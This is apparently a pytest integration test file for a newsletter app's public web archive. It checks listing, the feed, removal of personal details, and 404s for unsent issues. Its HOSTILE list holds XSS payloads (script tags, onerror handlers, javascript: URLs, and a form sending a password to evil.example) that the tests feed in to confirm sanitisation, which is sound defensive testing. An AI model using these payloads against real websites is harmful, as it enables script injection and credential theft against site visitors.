"""Issues that went out stand on the web: the approved words, nobody's name, nothing that runs; or not at all."""

from __future__ import annotations

import re
from pathlib import Path
from xml.etree import ElementTree

import feedparser
import pytest
from django.test import Client

from scheduler.accounts.models import Account
from scheduler.domain import archive
from scheduler.domain.rendering.marks import hole, row
from scheduler.library import services as library
from scheduler.outbox.holes import personal
from scheduler.plan import services as plan
from scheduler.plan.models import Message
from tests.builders import NOW
from tests.integration.planning import TUESDAYS, accept, close, queued

pytestmark = pytest.mark.django_db
WORDS = "Roll your feet for a minute, number 1. Breathe out slowly as you roll."


def sent(number: int = 1) -> Message:
    """The first issue of a series, gone out."""
    queued(8)
    message = Message.objects.filter(account__name="newsletter").order_by("at")[number - 1]
    close(message, "sent", message.at)
    return message


def test_an_issue_that_went_out_is_listed_shown_and_in_the_feed(client: Client) -> None:
    accept()
    message = sent()
    index = client.get("/letters/").content.decode()
    assert f'href="/letters/{message.ref}/"' in index
    assert 'content="noindex"' not in index
    page = client.get(f"/letters/{message.ref}/")
    assert WORDS in page.content.decode()
    policy = page["Content-Security-Policy"]
    assert policy.startswith("sandbox ")
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    answer = client.get("/letters/feed.xml")
    found = feedparser.parse(answer.content)
    assert not found.bozo
    assert [entry.title for entry in found.entries] == [message.subject]
    assert found.entries[0].link.endswith(f"/letters/{message.ref}/")


def test_nobodys_name_and_nobodys_links_are_on_it(client: Client) -> None:
    accept()
    html = client.get(f"/letters/{sent().ref}/").content.decode()
    assert "Unsubscribe" not in html
    assert "Choose what you get" not in html
    assert "Read it in the browser" not in html
    assert not re.search("[\ue000-\uf8ff]", html)
    assert archive.NOBODYS not in html
    assert "/u/" not in html
    assert "/p/" not in html


def test_nothing_else_is_shown(client: Client) -> None:
    accept()
    queued(8)
    draft, approved, practised, post = (
        Message.objects.filter(account__name="newsletter").order_by("at")[0],
        Message.objects.filter(account__name="newsletter").order_by("at")[1],
        Message.objects.filter(account__name="newsletter").order_by("at")[2],
        Message.objects.filter(account__name="bluesky").order_by("at")[0],
    )
    Message.objects.filter(pk=approved.pk).update(state="approved")
    close(practised, "rehearsed", NOW)
    close(post, "sent", NOW)
    for ref in (draft.ref, approved.ref, practised.ref, post.ref, "m999999", "m1'", "c1", "m" + "9" * 30):
        assert client.get(f"/letters/{ref}/").status_code == 404
    assert "has not gone out yet" in client.get("/letters/").content.decode()


def test_while_it_goes_out_its_readers_can_open_it(client: Client) -> None:
    accept()
    queued(8)
    message = Message.objects.filter(account__name="newsletter").order_by("at")[0]
    Message.objects.filter(pk=message.pk).update(state="approved", frozen_at=NOW)
    assert client.get(f"/letters/{message.ref}/").status_code == 404  # practice
    Account.objects.filter(name="newsletter").update(state="ready", live_since=NOW)
    assert client.get(f"/letters/{message.ref}/").status_code == 200


def test_the_letter_links_to_its_page_and_the_link_is_part_of_what_is_approved() -> None:
    accept()
    queued(8)
    message = Message.objects.filter(account__name="newsletter").order_by("at")[0]
    (payload,) = plan.payloads(message)
    assert "view_url" in payload["html"]
    assert "Read it in the browser: " in payload["text"]
    assert personal("https://s.example", "a@x.org", "A", "t", 7)["view_url"] == "https://s.example/letters/m7/"
    before = message.payload_hash
    accept(TUESDAYS + "archive: no\n")
    plan.refresh(NOW)
    message.refresh_from_db()
    (payload,) = plan.payloads(message)
    assert "view_url" not in payload["html"] + payload["text"]
    assert message.payload_hash != before


def test_archive_no_shows_nothing_at_all(client: Client) -> None:
    accept()
    ref = sent().ref
    accept(TUESDAYS + "archive: no\n")
    for place in ("/letters/", f"/letters/{ref}/", "/letters/feed.xml"):
        assert client.get(place).status_code == 404


HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>', "<svg onload=alert(1)>", '<iframe src="//evil.example"></iframe>',
    "<form action=https://evil.example><input name=password></form>", '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">', "<math><mtext><script>alert(1)</script></math>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>', "<object data=x></object>", "[[unsubscribe_url]]",
    "<p style=\"background:url('javascript:alert(1)')\">x</p>", "<!--<script>-->", "\ue010unsubscribe_url|x\ue011",
]  # fmt: skip


@pytest.mark.parametrize("foreign", HOSTILE)
def test_a_hostile_article_is_words_on_the_page(client: Client, foreign: str, tmp_path: Path) -> None:
    accept()
    posts = tmp_path / "posts"
    posts.mkdir()
    tip = "Roll one foot slowly over a small ball for a minute. Breathe out as you roll, and let the heel sink."
    (posts / "x.md").write_text(f"# Feet {foreign}\n\n## Rolling {foreign}\n\n{tip} {foreign}\n\n{tip}\n")
    article = library.add_post(tmp_path, "x.md", NOW)
    plan.queue(article.pk, "weekly-tip", "ana@example.org", NOW)
    message = Message.objects.filter(account__name="newsletter").order_by("at").first()
    assert message is not None
    close(message, "sent", NOW)
    answer = client.get(f"/letters/{message.ref}/")
    assert answer.status_code == 200
    assert_harmless(answer.content.decode())
    ElementTree.fromstring(client.get("/letters/feed.xml").content)
    assert "<script" not in client.get("/letters/").content.decode().lower()


@pytest.mark.parametrize("foreign", HOSTILE)
def test_even_a_hostile_template_makes_a_harmless_page(foreign: str) -> None:
    assert_harmless(archive.page(f"<!doctype html><html><body><p>Words</p>{foreign}</body></html>"))


def assert_harmless(html: str) -> None:
    """No element that runs, asks or moves elsewhere, and no handler."""
    from lxml import html as markup

    for element in markup.document_fromstring(html).iter():
        assert isinstance(element.tag, str)
        assert element.tag not in archive._NEVER
        assert "http-equiv" not in element.attrib
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on")
            assert not re.match(r"\s*(javascript|data|vbscript):", "".join(str(value).split()), re.IGNORECASE)


def test_names_become_what_was_written_for_nobody_and_class_rows_lose_their_marks() -> None:
    letter = (
        f"<html><body><p>Dear {hole('first_name', 'reader')}</p>{row('a', '<p>Class</p>')}"
        f"<p><a href='{hole('preferences_url', '')}'>Choose</a></p><p>{hole('address', '')}</p></body></html>"
    )
    html = archive.page(letter)
    assert "<p>Dear reader</p><p>Class</p>" in html
    assert "Choose" not in html
    assert archive.line(f"For {hole('first_name', 'you')}") == "For you"
